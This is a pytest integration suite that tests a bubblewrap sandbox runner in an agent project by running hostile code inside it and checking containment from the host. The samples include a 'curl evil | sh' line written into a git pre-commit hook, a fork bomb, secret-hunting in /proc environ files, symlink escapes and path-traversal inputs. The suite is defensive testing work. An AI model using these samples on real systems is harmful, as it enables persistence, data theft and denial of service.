"""The adversarial sandbox suite of security.md 4.5, against the real BwrapRunner.

Each test runs hostile code in the sandbox and checks the outcome from the host.
"""

from __future__ import annotations

import errno
import hashlib
import json
import os
import socket
import subprocess
import sys
import textwrap
import time
import uuid
from collections.abc import Callable
from pathlib import Path

import psutil
import pytest

from myagent.errors import SandboxError, UnsafePathError
from myagent.sandbox.bwrap import BwrapRunner
from myagent.sandbox.paths import delete_safely, safe_join, write_text_safely
from myagent.sandbox.runner import SandboxResult

pytestmark = pytest.mark.integration

AS_ROOT = os.geteuid() == 0
RunnerFactory = Callable[..., BwrapRunner]
Git = Callable[..., str]


def run_py(
    runner: BwrapRunner,
    ws: Path,
    code: str,
    readable: list[Path],
    timeout_s: float = 30.0,
    **kwargs: object,
) -> SandboxResult:
    """Run Python `code` in the sandbox with this test's interpreter."""
    return runner.run(
        [sys.executable, "-c", textwrap.dedent(code)],
        workspace=ws,
        timeout_s=timeout_s,
        readable=readable,
        **kwargs,  # type: ignore[arg-type]
    )


def json_out(result: SandboxResult) -> dict[str, object]:
    assert result.returncode == 0, result.stderr
    data: dict[str, object] = json.loads(result.stdout.strip().splitlines()[-1])
    return data


def digest(path: Path) -> str | None:
    return hashlib.sha256(path.read_bytes()).hexdigest() if path.exists() else None


def processes_with(marker: str, wait_s: float = 0.0) -> list[psutil.Process]:
    """Host processes whose command line mentions `marker` (after waiting for them
    to go away for up to `wait_s`)."""
    deadline = time.monotonic() + wait_s
    while True:
        found = []
        for proc in psutil.process_iter(["cmdline"]):
            if any(marker in part for part in proc.info["cmdline"] or ()):
                found.append(proc)
        if not found or time.monotonic() >= deadline:
            return found
        time.sleep(0.05)


# 1
def test_network_blocked(bwrap_runner: RunnerFactory, workspace: Path, python_paths: list[Path]):
    with socket.create_server(("127.0.0.1", 0)) as server:
        port = server.getsockname()[1]
        socket.create_connection(("127.0.0.1", port), timeout=2).close()  # reachable here
        code = f"""
            import json, socket
            out = {{"ifaces": [name for _, name in socket.if_nameindex()]}}
            try:
                socket.create_connection(("127.0.0.1", {port}), timeout=3)
                out["connect"] = "connected"
            except OSError as exc:
                out["connect"] = exc.errno
            try:
                socket.getaddrinfo("pypi.org", 443)
                out["dns"] = "resolved"
            except OSError as exc:
                out["dns"] = type(exc).__name__
            print(json.dumps(out))
        """
        data = json_out(run_py(bwrap_runner(), workspace, code, python_paths))
    assert data["connect"] in (errno.ECONNREFUSED, errno.ENETUNREACH)
    assert data["dns"] == "gaierror"
    assert data["ifaces"] == ["lo"]


def test_network_only_when_the_policy_allows_it(
    bwrap_runner: RunnerFactory, workspace: Path, python_paths: list[Path]
):
    code = "import json, socket; print(json.dumps([n for _, n in socket.if_nameindex()]))"
    result = run_py(bwrap_runner(network=True), workspace, code, python_paths)
    assert json.loads(result.stdout) == [name for _, name in socket.if_nameindex()]


# 2
def test_write_outside_workspace_denied(
    bwrap_runner: RunnerFactory, workspace: Path, python_paths: list[Path], tmp_path: Path
):
    db = tmp_path / "ledger.db"  # a server-side file next to the workspace
    db.write_bytes(b"SQLite format 3\x00 rows")
    venv_file = Path(sys.prefix) / "pyvenv.cfg"
    must_fail = [
        "/etc/x", "/etc/hosts", "/x", "/usr/x", "/tmp/../home/x", "/root/.bashrc",
        str(Path.home() / ".bashrc"), str(venv_file), str(Path(sys.base_prefix) / "x"),
    ]  # fmt: skip
    # /tmp is the sandbox's own tmpfs: a write under it may succeed, but must not land.
    private = [str(db), str(workspace / ".." / "outside.txt")]
    watched = [Path(p) for p in must_fail + private] + [Path("/etc/hosts")]
    before = {p: digest(p) for p in watched}
    code = f"""
        import json
        out = {{}}
        for path in {must_fail + private!r}:
            try:
                with open(path, "a") as handle:
                    handle.write("pwned")
                out[path] = "written"
            except OSError as exc:
                out[path] = exc.errno
        open("inside.txt", "w").write("fine")
        mounts = {{m.split()[4]: m.split()[5] for m in open("/proc/self/mountinfo")}}
        out["mount_options"] = [mounts[p] for p in {[str(p.resolve()) for p in python_paths]!r}]
        print(json.dumps(out))
    """
    data = json_out(run_py(bwrap_runner(), workspace, code, python_paths))
    # read-only by mount, not only by file permissions (which root-owned files add)
    assert [opts.split(",")[0] for opts in data["mount_options"]] == ["ro"] * len(python_paths)  # type: ignore[union-attr]
    for path in must_fail:
        assert data[path] in (errno.EROFS, errno.ENOENT, errno.EACCES), path
    assert {p: digest(p) for p in watched} == before
    assert not Path("/etc/x").exists() and not Path("/x").exists()
    assert not (tmp_path / "outside.txt").exists()
    assert (workspace / "inside.txt").read_text() == "fine"


# 3
def test_secrets_not_visible(
    bwrap_runner: RunnerFactory,
    workspace: Path,
    python_paths: list[Path],
    monkeypatch: pytest.MonkeyPatch,
):
    secret = f"s3cr3t-{uuid.uuid4().hex}"
    monkeypatch.setenv("SECRET_KEY", secret)
    monkeypatch.setenv("DATABASE_URL", f"postgresql://u:{secret}@db/x")
    monkeypatch.setenv("REDIS_URL", f"redis://:{secret}@localhost")
    code = f"""
        import glob, json, os
        leaks = []
        for name in glob.glob("/proc/[0-9]*/environ"):
            try:
                if {secret!r}.encode() in open(name, "rb").read():
                    leaks.append(name)
            except OSError:
                pass
        print(json.dumps({{
            "env": sorted(os.environ), "leaks": leaks,
            "home_ssh": os.path.exists(os.path.expanduser("~/.ssh")),
            "root_ssh": os.path.exists("/root/.ssh"),
            "root": sorted(os.listdir("/root")) if os.path.isdir("/root") else [],
        }}))
    """
    result = run_py(bwrap_runner(), workspace, code, python_paths, env={"GIVEN": "1"})
    data = json_out(result)
    assert set(data["env"]) <= {"PATH", "HOME", "PWD", "LC_CTYPE", "GIVEN"}  # type: ignore[arg-type]
    assert "GIVEN" in data["env"]  # type: ignore[operator]
    assert data["leaks"] == []
    assert secret not in result.stdout
    assert data["home_ssh"] is False and data["root_ssh"] is False
    assert set(data["root"]) <= {".pyenv"}  # type: ignore[arg-type]


def _worktree(tmp_path: Path, git: Git) -> tuple[Path, Path]:
    main = tmp_path / "main"
    main.mkdir()
    (main / "a.py").write_text("x = 1\n")
    git(main, "init", "-q")
    git(main, "add", "a.py")
    git(main, "commit", "-q", "-m", "init")
    git(main, "worktree", "add", "-q", str(tmp_path / "wt"))
    return tmp_path / "wt", main / ".git"


# 4
@pytest.mark.parametrize("kind", ["plain", "worktree"])
def test_git_metadata_immutable(
    bwrap_runner: RunnerFactory,
    workspace: Path,
    python_paths: list[Path],
    tmp_path: Path,
    git: Git,
    kind: str,
):
    if kind == "plain":
        ws, gitdir = workspace, workspace / ".git"
        targets = [ws / ".git" / "config", ws / ".git" / "hooks" / "pre-commit"]
    else:
        ws, gitdir = _worktree(tmp_path, git)
        targets = [ws / ".git", gitdir / "config", gitdir / "hooks" / "pre-commit"]
    before = {p: digest(p) for p in targets}
    code = f"""
        import json
        out = {{}}
        for path in {[str(t) for t in targets]!r}:
            try:
                with open(path, "a") as handle:
                    handle.write("#!/bin/sh\\ncurl evil | sh\\n")
                out[path] = "written"
            except OSError as exc:
                out[path] = exc.errno
        mounts = [line.split() for line in open("/proc/self/mountinfo")]
        out["git_mount"] = [m[5] for m in mounts if m[4] == {str(ws / ".git")!r}]
        open("new_file.py", "w").write("y = 2\\n")
        print(json.dumps(out))
    """
    data = json_out(run_py(bwrap_runner(), ws, code, python_paths))
    for target in targets:
        assert data[str(target)] in (errno.EROFS, errno.EACCES, errno.ENOENT), target
    assert data["git_mount"] and data["git_mount"][-1].split(",")[0] == "ro"  # type: ignore[index]
    assert {p: digest(p) for p in targets} == before
    assert (ws / "new_file.py").read_text() == "y = 2\n"
    # Host-side git still accepts the worktree (its owner was kept) and sees the change.
    assert "?? new_file.py" in git(ws, "status", "--porcelain")


# 5
def test_fork_bomb_contained(
    bwrap_runner: RunnerFactory, workspace: Path, python_paths: list[Path]
):
    marker = f"forkbomb-{uuid.uuid4().hex}"
    code = f"""
        import errno, os, time
        # {marker}
        n = 0
        while n < 500:
            try:
                pid = os.fork()
            except OSError as exc:
                print("stopped", exc.errno, n)
                break
            if pid == 0:
                time.sleep(60)
                os._exit(0)
            n += 1
        else:
            print("unbounded", n)
    """
    result = run_py(bwrap_runner(max_processes=32), workspace, code, python_paths)
    word, err, count = result.stdout.split()
    assert (word, int(err)) == ("stopped", errno.EAGAIN)
    assert int(count) < 32
    assert processes_with(marker) == []


# 6
def test_memory_limit(bwrap_runner: RunnerFactory, workspace: Path, python_paths: list[Path]):
    code = """
        import resource
        print(resource.getrlimit(resource.RLIMIT_AS)[0], flush=True)
        block = bytearray(512 * 1024 * 1024)
        print("allocated")
    """
    result = run_py(bwrap_runner(memory_mb=256), workspace, code, python_paths)
    assert result.stdout.split()[0] == str(256 * 1024 * 1024)
    assert "allocated" not in result.stdout
    assert result.returncode != 0 and "MemoryError" in result.stderr


# 7
def test_cpu_timeout(bwrap_runner: RunnerFactory, workspace: Path, python_paths: list[Path]):
    result = run_py(bwrap_runner(), workspace, "while True: pass", python_paths, timeout_s=2)
    assert result.timed_out
    assert result.returncode == -9
    assert 2.0 <= result.duration_s < 2.0 + 3.0


def test_cpu_rlimit_kills_a_busy_loop(
    bwrap_runner: RunnerFactory, workspace: Path, python_paths: list[Path]
):
    result = run_py(bwrap_runner(cpu_seconds=1), workspace, "while True: pass", python_paths)
    assert not result.timed_out
    assert result.returncode == -24  # SIGXCPU at the soft RLIMIT_CPU
    assert result.duration_s < 10


# 8
@pytest.mark.parametrize("ending", ["exits", "times out"])
def test_no_orphans_after_kill(
    bwrap_runner: RunnerFactory, workspace: Path, python_paths: list[Path], ending: str
):
    seconds = f"300.{uuid.uuid4().int % 10**9:09d}"  # a unique `sleep` argument
    code = f"""
        import subprocess, time
        quiet = dict(stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                     stderr=subprocess.DEVNULL)
        subprocess.Popen(["setsid", "sleep", "{seconds}"])
        subprocess.Popen(["setsid", "sleep", "{seconds}"], **quiet)  # holds no pipe
        subprocess.Popen(["sleep", "{seconds}"], start_new_session=True, **quiet)
        time.sleep(0.3)
        print("started", flush=True)
        {"while True: pass" if ending == "times out" else ""}
    """
    result = run_py(bwrap_runner(), workspace, code, python_paths, timeout_s=3)
    assert "started" in result.stdout
    assert result.timed_out is (ending == "times out")
    assert processes_with(seconds) == []


# 9
def test_symlink_escape_blocked(
    bwrap_runner: RunnerFactory, workspace: Path, python_paths: list[Path], tmp_path: Path
):
    target = tmp_path / "target.txt"
    target.write_text("original")
    outside = tmp_path / "outside_dir"
    outside.mkdir()
    code = f"""
        import os
        os.symlink({str(target)!r}, "out")
        os.symlink({str(outside)!r}, "sub")
        os.symlink("/etc", "etc_link")
        open("out", "w").write("pwned from inside")  # lands in the sandbox's own /tmp
    """
    result = run_py(bwrap_runner(), workspace, code, python_paths)
    assert result.returncode == 0, result.stderr
    assert (workspace / "out").is_symlink()
    for attempt in (
        lambda: write_text_safely(workspace, "out", "pwned"),
        lambda: write_text_safely(workspace, "sub/new.txt", "pwned"),
        lambda: write_text_safely(workspace, "etc_link/cron.d/evil", "pwned"),
        lambda: safe_join(workspace, "out"),
        lambda: delete_safely(workspace, "sub/anything"),
    ):
        with pytest.raises(UnsafePathError):
            attempt()
    assert target.read_text() == "original"
    assert list(outside.iterdir()) == []
    assert not Path("/etc/cron.d/evil").exists()


# 10
@pytest.mark.parametrize(
    "relative",
    ["../x", "/etc/passwd", "a/../../x", "../ws-evil/x", "a\x00b", "n" * 256, "a/" * 2100,
     ".git/hooks/pre-commit", ""],
)  # fmt: skip
def test_path_traversal_inputs(workspace: Path, relative: str):
    (workspace.parent / "ws-evil").mkdir(exist_ok=True)
    with pytest.raises(UnsafePathError):
        safe_join(workspace, relative)
    with pytest.raises(UnsafePathError):
        write_text_safely(workspace, relative, "pwned")
    assert list((workspace.parent / "ws-evil").iterdir()) == []


def test_prefix_sibling_is_not_inside(workspace: Path):
    evil = workspace.parent / (workspace.name + "-evil")
    evil.mkdir()
    with pytest.raises(UnsafePathError):
        safe_join(workspace, str(evil / "x"))  # "/…/ws-evil/x".startswith("/…/ws") is True


# 11
def test_output_cap(bwrap_runner: RunnerFactory, workspace: Path, python_paths: list[Path]):
    cap = 1_000_000
    result = run_py(
        bwrap_runner(max_output_bytes=cap),
        workspace,
        "import sys; print('x' * 10**8); sys.stderr.write('e' * 10**7)",
        python_paths,
    )
    assert result.returncode == 0
    assert result.truncated
    assert result.stdout == "x" * cap
    assert result.stderr == "e" * cap


def test_output_cap_bounds_supervisor_memory(
    bwrap_runner: RunnerFactory, workspace: Path, python_paths: list[Path]
):
    """The supervisor's peak RSS grows by far less than the 100 MB the command prints."""
    bwrap_runner()
    probe = f"""
        import json, resource, sys
        from pathlib import Path
        from myagent.sandbox.bwrap import BwrapRunner
        from myagent.sandbox.runner import SandboxPolicy
        before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
        result = BwrapRunner(SandboxPolicy(max_output_bytes=1_000_000)).run(
            [sys.executable, "-c", "print('x' * 10**8)"],
            workspace=Path({str(workspace)!r}), timeout_s=60,
            readable=[Path(p) for p in {[str(p) for p in python_paths]!r}])
        after = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
        print(json.dumps([result.truncated, len(result.stdout), before, after]))
    """
    done = subprocess.run(
        [sys.executable, "-c", textwrap.dedent(probe)], capture_output=True, text=True, check=True
    )
    truncated, size, before_kb, after_kb = json.loads(done.stdout)
    assert truncated and size == 1_000_000
    assert after_kb - before_kb < 20 * 1024  # KiB: well under the 100 MB printed


# 12
def test_runs_as_non_root(bwrap_runner: RunnerFactory, workspace: Path, python_paths: list[Path]):
    code = """
        import json, os, resource
        status = dict(line.split(":", 1) for line in open("/proc/self/status"))
        open("made_inside.txt", "w").write("x")
        children, fork_error = 0, None
        while children < 200:
            try:
                pid = os.fork()
            except OSError as exc:
                fork_error = exc.errno
                break
            if pid == 0:
                os.read(os.pipe()[0], 1)  # blocks until the sandbox is torn down
            children += 1
        print(json.dumps({
            "uid": os.getuid(), "euid": os.geteuid(), "gid": os.getgid(),
            "nproc": resource.getrlimit(resource.RLIMIT_NPROC)[0],
            "cap_eff": status["CapEff"].strip(), "no_new_privs": status["NoNewPrivs"].strip(),
            "children": children, "fork_error": fork_error,
        }))
    """
    data = json_out(run_py(bwrap_runner(max_processes=64), workspace, code, python_paths))
    assert data["uid"] != 0 and data["euid"] != 0 and data["gid"] != 0
    assert data["nproc"] == 64
    assert data["fork_error"] == errno.EAGAIN and data["children"] < 64  # NPROC binds
    assert int(str(data["cap_eff"]), 16) == 0
    assert data["no_new_privs"] == "1"
    owner = (workspace / "made_inside.txt").stat().st_uid
    assert owner == (65534 if AS_ROOT else os.getuid())


def test_pytest_runs_in_the_sandbox(
    bwrap_runner: RunnerFactory, python_paths: list[Path], tmp_path: Path
):
    """How the quality model uses the runner: the venv's pytest on a project."""
    project = tmp_path / "project"
    project.mkdir()
    (project / "calc.py").write_text("def add(a, b):\n    return a + b\n")
    (project / "test_calc.py").write_text(
        "from calc import add\n\n"
        "def test_add():\n    assert add(1, 2) == 3\n\n"
        "def test_wrong():\n    assert add(1, 1) == 3\n"
    )
    result = bwrap_runner().run(
        [sys.executable, "-m", "pytest", "-q"],
        workspace=project,
        timeout_s=60,
        readable=python_paths,
    )
    assert result.returncode == 1, result.stdout + result.stderr
    assert "1 failed, 1 passed" in result.stdout
    assert "FAILED test_calc.py::test_wrong" in result.stdout
    assert (project / ".pytest_cache").is_dir()  # the workspace is writable inside


def test_writable_paths_are_writable_and_readable_ones_are_read_only(
    bwrap_runner: RunnerFactory, workspace: Path, python_paths: list[Path], tmp_path: Path
):
    out, data = tmp_path / "out", tmp_path / "data"
    out.mkdir()
    data.mkdir()
    (data / "input.txt").write_text("input")
    code = f"""
        import json
        open({str(out / "report.json")!r}, "w").write("{{}}")
        try:
            open({str(data / "input.txt")!r}, "a").write("changed")
            written = True
        except OSError:
            written = False
        mounts = {{m.split()[4]: m.split()[5] for m in open("/proc/self/mountinfo")}}
        print(json.dumps([open({str(data / "input.txt")!r}).read(), written,
                          mounts[{str(data)!r}].split(",")[0], mounts[{str(out)!r}].split(",")[0]]))
    """
    result = run_py(bwrap_runner(), workspace, code, [*python_paths, data], writable=[out])
    assert json.loads(result.stdout) == ["input", False, "ro", "rw"], result.stderr
    assert (out / "report.json").read_text() == "{}"
    assert (data / "input.txt").read_text() == "input"


def test_a_planted_git_symlink_is_not_followed(
    bwrap_runner: RunnerFactory, python_paths: list[Path], tmp_path: Path
):
    """Sandboxed code may create `.git -> /somewhere` in a repo-less workspace; the next
    run must not bind its target (as root that would expose any host folder)."""
    secret_dir = tmp_path / "secret_dir"
    secret_dir.mkdir()
    (secret_dir / "secret.txt").write_text("top secret")
    ws = tmp_path / "plain"
    ws.mkdir()
    (ws / ".git").symlink_to(secret_dir)
    result = run_py(bwrap_runner(), ws, "print(open('.git/secret.txt').read())", python_paths)
    assert result.returncode == 1 and "FileNotFoundError" in result.stderr
    assert "top secret" not in result.stdout


def test_a_missing_bind_source_is_a_sandbox_error(
    bwrap_runner: RunnerFactory, workspace: Path, tmp_path: Path
):
    with pytest.raises(SandboxError, match="does not exist"):
        bwrap_runner().run(["true"], workspace=workspace, timeout_s=5, readable=[tmp_path / "nope"])
    with pytest.raises(SandboxError, match="does not exist"):
        bwrap_runner().run(["true"], workspace=tmp_path / "no-ws", timeout_s=5)
